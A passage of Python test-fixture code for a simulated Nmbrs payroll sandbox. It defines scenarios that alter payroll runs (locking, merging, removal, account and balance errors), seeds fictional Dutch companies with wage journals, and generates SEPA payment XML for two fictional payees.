    box.lock(runs[-1])


def _unlocked(box: NmbrsSandbox, runs: list[Record]) -> None:
    box.lock(runs[-1], locked=False)


def _merged(box: NmbrsSandbox, runs: list[Record]) -> None:
    """The second, a correction, becomes part of the first; both are locked afterwards."""
    kept, gone = runs[0], box.books["runs"].pop(runs[1]["id"])
    kept["transactions"][0]["lines"] += [one for made in gone["transactions"] for one in made["lines"]]
    kept["locked"] = True


def _regenerated(box: NmbrsSandbox, runs: list[Record]) -> None:
    """All journals of the company's year are made anew with another account for wages; nothing else changes."""
    for run in box.books["runs"].values():
        if (run["company"], run["year"]) == (runs[-1]["company"], runs[-1]["year"]):
            for one in (each for made in run["transactions"] for each in made["lines"]):
                one["account"] = "4001" if one["account"] == "4000" else one["account"]


def _removed(box: NmbrsSandbox, runs: list[Record]) -> None:
    box.books["runs"].pop(runs[-1]["id"])


def _returned(box: NmbrsSandbox, runs: list[Record]) -> None:
    """Undone and made again: the same run under other ids."""
    old = box.books["runs"].pop(runs[-1]["id"])
    own = box._next("run", 410200)
    box.books["runs"][own] = old | {"id": own, "uuid": _uuid(f"run{own}")}


def _edited(change: Callable[[Record], object]) -> Callable[[NmbrsSandbox, list[Record]], None]:
    """Changes the first transaction of a run."""

    def edit(_: NmbrsSandbox, runs: list[Record]) -> None:
        change(runs[-1]["transactions"][0])

    return edit


def _emptied(_: NmbrsSandbox, runs: list[Record]) -> None:
    runs[-1]["transactions"] = []


def _doubled(_: NmbrsSandbox, runs: list[Record]) -> None:
    date = runs[-1]["transactions"][0]["date"]
    pair = (line("4000", "125.00", "debit", "Bonus"), line("2100", "125.00", "credit", "Nettoloon"))
    runs[-1]["transactions"].append(transaction(date, *pair))


def _cent(made: Record) -> None:
    made["lines"][-1]["value"] = str(Decimal(made["lines"][-1]["value"]) - Decimal("0.01"))


SCENARIOS: Mapping[str, Callable[[NmbrsSandbox, list[Record]], None]] = {
    "locked": _locked,
    "unlocked": _unlocked,
    "merged": _merged,
    "regenerated": _regenerated,
    "removed": _removed,
    "returned": _returned,
    "missing_account": _edited(lambda made: made["lines"][0].update(account="")),
    "absent_account": _edited(lambda made: made["lines"][0].update(account=None)),
    "unknown_account": _edited(lambda made: made["lines"][0].update(account="9876")),
    "empty_centre": _edited(lambda made: [one.update(centre="") for one in made["lines"]]),
    "imbalance": _edited(_cent),
    "negative": _edited(lambda made: made["lines"].extend(
        [line("4000", "-10.00", "debit", "Correctie"), line("2100", "-10.00", "credit", "Correctie")])),
    "zero": _edited(lambda made: made["lines"].append(line("4990", "0.00", "debit", "Niets"))),
    "two_transactions": _doubled,
    "empty": _emptied,
}  # fmt: skip
"""What happens to runs at Nmbrs (dossier 10), by name; also `POST /_sandbox/scenario/{name}` for the newest runs."""


def seed(box: NmbrsSandbox) -> None:
    """Fills the books."""
    bakery = box.add_debtor("Bakkerij Van der Meulen B.V.", "00012")
    logistics = box.add_debtor("Logistiek Noord B.V.", "00031")
    holding = box.add_debtor("Van der Meulen Holding B.V.", "00044")
    shop = box.add_company("Bakkerij Van der Meulen B.V.", 1, bakery)
    depot = box.add_company("Logistiek Noord B.V.", 2, logistics, "4-weeks", "2026-4")
    temps = box.add_company("Logistiek Noord Uitzend B.V.", 3, logistics, "1-week", "2026-9")
    box.add_company("Van der Meulen Holding B.V.", 4, holding)
    for month, gross in ((11, "9100"), (12, "9380.50")):
        box.add_run(shop, 2025, month, 0, payroll(f"2025-{month}-30", gross, "010", "020"))
    for month, gross in ((1, "9450"), (2, "9450"), (3, "9612.75")):
        day = {1: "31", 2: "28", 3: "31"}[month]
        box.add_run(shop, 2026, month, 0, payroll(f"2026-{month:02}-{day}", gross, "010", "020"))
    correction = transaction(
        "2026-03-31", line("4000", "250.00", "debit", "Bruto lonen", "010"),
        line("4010", "20.00", "debit", "Vakantiegeld"), line("4050", "46.25", "debit", "Premies WG"),
        line("1700", "92.50", "credit", "Loonheffing"),
        line("1700", "46.25", "credit", "Premies"), line("1830", "20.00", "credit", "Vakantiegeld"),
        line("2100", "157.50", "credit", "Nettoloon"),
    )  # fmt: skip
    box.add_run(shop, 2026, 1, 3, correction, description="Correctie jan t/m mrt 2026", type_="twk")
    box.add_run(shop, 2026, 4, 0, payroll("2026-04-30", "9700", "010", "020"), locked=False)
    for period in (1, 2, 3):
        day = {1: "2026-01-25", 2: "2026-02-22", 3: "2026-03-22"}[period]
        box.add_run(depot, 2026, period, 0, payroll(day, "22140.40", "010", "020"))
    for week in range(1, 5):
        day = {1: "2026-01-04", 2: "2026-01-11", 3: "2026-01-18", 4: "2026-01-25"}[week]
        box.add_run(temps, 2026, week, 0, payroll(day, "4120.16"))
    for run in box.books["runs"].values():
        box.books["payment_files"][run["id"]] = payment_file(run)


PEOPLE = (("NL91ABNA0417164300", "A. Voorbeeld"), ("NL20INGB0001234567", "B. Voorbeeld"))


def payment_file(run: Record) -> str:
    """A payment file of a run, to two fictional people: together its net wages."""
    space = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"
    lines = [one for made in run["transactions"] for one in made["lines"]]
    net = sum((Decimal(one["value"]) for one in lines if one["account"] == "2100"), Decimal(0))
    day = run["transactions"][0]["date"] if run["transactions"] else f"{run['year']}-12-31"
    paid = "".join(
        f"<CdtTrfTxInf><PmtId><EndToEndId>{run['id']}-{at}</EndToEndId></PmtId>"
        f'<Amt><InstdAmt Ccy="EUR">{amount}</InstdAmt></Amt><Cdtr><Nm>{name}</Nm></Cdtr>'
        f"<CdtrAcct><Id><IBAN>{iban}</IBAN></Id></CdtrAcct><RmtInf><Ustrd>Salaris</Ustrd></RmtInf></CdtTrfTxInf>"
        for at, ((iban, name), amount) in enumerate(zip(PEOPLE, _divided(net, 2), strict=True), 1)
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?><Document xmlns="{space}"><CstmrCdtTrfInitn><GrpHdr><MsgId>{run["id"]}'
        f"</MsgId><NbOfTxs>2</NbOfTxs><CtrlSum>{net}</CtrlSum></GrpHdr><PmtInf><PmtInfId>{run['id']}</PmtInfId>"
        f"<ReqdExctnDt>{day}</ReqdExctnDt><Dbtr><Nm>Bakkerij Van der Meulen B.V.</Nm></Dbtr>"
        f"<DbtrAcct><Id><IBAN>NL39RABO0300065264</IBAN></Id></DbtrAcct>{paid}</PmtInf></CstmrCdtTrfInitn></Document>"
    )
